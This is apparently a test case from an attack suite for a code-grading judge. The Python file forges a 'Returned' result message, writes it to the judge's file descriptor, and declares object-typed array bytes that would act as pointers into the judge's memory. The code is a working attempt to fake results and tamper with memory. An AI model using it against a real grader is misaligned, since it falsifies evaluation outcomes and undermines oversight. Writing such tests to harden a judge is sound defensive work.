# /// attack
# tries = "Sends an array of Python objects by its bytes, which are pointers in the judge's memory."
# attempt = "died cannot be read"
# answer = "died cannot be read"
# ///
import os
import struct
import sys

import msgspec


def lie(dtype):
    number = sys._getframe(2).f_locals["call"].number
    message = {"type": "Returned", "number": number, "value": ["a", 0], "changed": []}
    header = msgspec.msgpack.encode([message, [[dtype, (2,)]]])
    os.write(3, struct.pack("<4sIQ", b"AGR1", len(header), 16) + header + b"\x41" * 16)


def attempt():
    lie("object")


def answer(x):
    lie("V8")


def double(x):
    return 2 * x
